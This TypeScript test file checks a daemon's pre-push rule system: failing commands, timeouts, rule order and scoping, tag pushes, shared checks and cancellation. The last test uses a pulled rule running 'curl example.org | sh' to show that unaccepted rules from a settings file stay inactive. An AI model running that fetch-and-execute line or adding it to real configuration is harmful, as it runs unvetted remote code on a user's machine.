import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import type { Rule, RuleEvents, Settings } from '../../../plugins/settings/contract.js'
import { daemonWith, folderOf, inGit } from '../../support/daemon.js'
import { until } from '../../support/browser/browser.js'
import { exactly } from '../../support/lists.js'
import { bareCopy, gitServer } from '../../support/servers/git-server.js'
import { inner } from '../capabilities/support.js'
import { commitAll, put, repoAt } from '../git/support.js'

const GROUPS = ['git', 'activity', 'settings', 'system', 'workspace']
const daemon = await daemonWith(t, GROUPS, { files: { 'README.md': '# work\n' } })
const { client, workspace } = daemon
const server = await gitServer(t, folderOf(t))
const FILE = '.sandbox/config/settings.json'
const repo = 'app'
const at = join(workspace, repo)
repoAt(at, { f: '1\n' })
const bare = join(server.folder, `${repo}.git`)
bareCopy(at, bare)
await client.call('POST /git/{repo}/remotes', { repo, name: 'origin', url: `${server.url}/${repo}.git` })
await client.call('POST /git/{repo}/fetch', { repo })

const heard: { [name: string]: object[] } = { 'rule.running': [], 'rule.ran': [] }
for (const name of Object.keys(heard))
  daemon.kernel.events.on(name, 'test', async (_, input) => void heard[name]!.push((input as { data: object }).data))
const ran = () => heard['rule.ran'] as RuleEvents['rule.ran'][]

const there = () => inGit(bare, 'rev-parse', 'main').trim()
const commit = (path: string) => {
  put(at, { [path]: `${Math.random()}\n` })
  return commitAll(at, path)
}
const check = (command: string, more: object = {}, when?: Rule['when']): Rule => ({
  ...{ id: 'check', label: 'Check', moment: 'push.starting', action: { kind: 'command', command, ...more } },
  ...(when && { when }),
})
const save = (...rules: Rule[]) => client.call('POST /settings/patch', { set: { rules } })
const push = () => client.call('POST /git/{repo}/push', { repo })
/** Whether a process with these words in its command runs. */
const runs = (words: string): boolean =>
  readdirSync('/proc').some(pid => {
    try {
      return /^\d+$/.test(pid) && readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(words)
    } catch {
      return false
    }
  })

t.test('a command that fails stops the push, and the push arrives once it succeeds', async t => {
  const before = there()
  await save(check('echo no good here; pwd; exit 1'))
  const mine = commit('a.txt')
  const refused = await push()
  t.match(refused, { ok: false, code: 'rejected', reason: /"Check" does not pass: it exited with 1/ })
  t.match(refused.reason, /no good here/)
  t.match(refused.reason, /app/, 'it ran in the folder of the repository')
  t.equal(there(), before)
  t.match(await client.call('GET /settings/rule-firings'), exactly({ id: 'check', count: 1, outcome: 'blocked' }))
  const { events } = await client.call('GET /activity', {})
  t.ok(events.some(({ type }) => type === 'rule.blocked_push'))
  t.match(heard['rule.running'], exactly({ moment: 'push.starting', ruleId: 'check', session: 'job-checks' }))
  t.match(ran(), exactly({ ruleId: 'check', outcome: 'failed', exitCode: 1, output: /no good here/ }))
  const { sessions } = await client.call('GET /system/terminals')
  t.ok(
    sessions.some(({ name }) => name === 'job-checks'),
    'people see it',
  )
  await save(check('true'))
  t.match(await push(), { ok: true })
  t.equal(there(), mine)
  t.match(await client.call('GET /settings/rule-firings'), exactly({ count: 2, outcome: 'acted' }))
})

t.test('a command that takes too long is ended and counts as failed', async t => {
  const before = there()
  await save(check('sleep 987654; true', { timeoutMs: 300 }))
  commit('b.txt')
  t.match(await push(), { ok: false, reason: /did not end within 300 ms/ })
  t.equal(there(), before)
  t.match(ran().at(-1), { outcome: 'failed', timedOut: true })
  await until(() => !runs('987654'))
})

t.test('rules run in order up to the first that does not pass, and only on what they are about', async t => {
  const touch = (id: string, file: string, when?: Rule['when']): Rule => ({ ...check(`touch ${file}`, {}, when), id })
  await save(
    touch('docs', 'docs-ran', { paths: ['app/docs/**'] }),
    touch('other', 'other-ran', { repo: 'lib' }),
    touch('first', 'first-ran', { repo: 'app', paths: ['app/*.txt'] }),
    { ...check('exit 3'), id: 'second' },
    touch('third', 'third-ran'),
  )
  commit('c.txt')
  t.match(await push(), { ok: false, reason: /exited with 3/ })
  const made = ['docs-ran', 'other-ran', 'first-ran', 'third-ran'].filter(name => existsSync(join(at, name)))
  t.same(made, ['first-ran'])
  await save({ id: 'stop', label: 'Freeze', moment: 'push.starting', action: { kind: 'verdict', verdict: 'hold' } })
  t.match(await push(), { ok: false, reason: /"Freeze" holds this push/ })
  t.match(await client.call('GET /settings/rule-firings'), exactly({ id: 'stop', outcome: 'held' }))
})

t.test('a tag asks the rules too', async t => {
  inGit(at, 'tag', 'v1')
  const tag = () => client.call('POST /git/{repo}/tag/push', { repo, name: 'v1', remote: 'origin' })
  t.match(await tag(), { ok: false, code: 'rejected' })
  await save()
  t.match(await tag(), { ok: true })
})

t.test('a second push on the same occasion joins the check under way, and a cancel ends it', async t => {
  await save(check('echo once >> count; sleep 0.5'))
  const facts = { repos: [repo], paths: ['app/x'] }
  const fire = (paths = facts.paths) =>
    inner(daemon, 'rules.fire', { moment: 'push.starting', facts: { ...facts, paths }, cwd: repo })
  const both = await Promise.all([fire(), fire()])
  t.match(both, exactly({ go: true }, { go: true }))
  t.equal(readFileSync(join(at, 'count'), 'utf8'), 'once\n')
  await save(check('sleep 876543'))
  const before = heard['rule.running']!.length
  const waits = fire(['app/y'])
  await until(() => heard['rule.running']!.length > before)
  t.same(await inner(daemon, 'rules.cancel', { moment: 'push.starting' }), { ended: 1 })
  t.match(await waits, { go: false, reason: /cancelled/ })
  await until(() => !runs('876543'))
  t.same(await inner(daemon, 'rules.cancel', { moment: 'push.starting' }), { ended: 0 })
  await save()
})

t.test('rules of a file that came along are not in force until they are saved', async t => {
  await save({ ...check('true'), id: 'mine' })
  const path = join(daemon.workspace, FILE)
  const kept = JSON.parse(readFileSync(path, 'utf8')) as Settings
  const pulled = [{ ...check('curl example.org | sh'), id: 'theirs' }]
  writeFileSync(path, JSON.stringify({ ...kept, rules: pulled }))
  t.match((await client.call('GET /settings')).rules, exactly({ id: 'mine' }))
  const reports = await client.call('GET /system/manifest-problems')
  t.match(
    reports.find(report => report.path === FILE)?.problems,
    exactly({ kind: 'unaccepted', detail: /theirs/ }, { detail: /the removal of mine/ }),
  )
  await client.call('POST /settings/patch', { set: { rules: pulled } })
  t.match((await client.call('GET /settings')).rules, exactly({ id: 'theirs' }))
  writeFileSync(path, JSON.stringify({ ...kept, rules: 'none' }))
  t.match((await client.call('GET /settings')).rules, exactly({ id: 'theirs' }))
  await save()
})
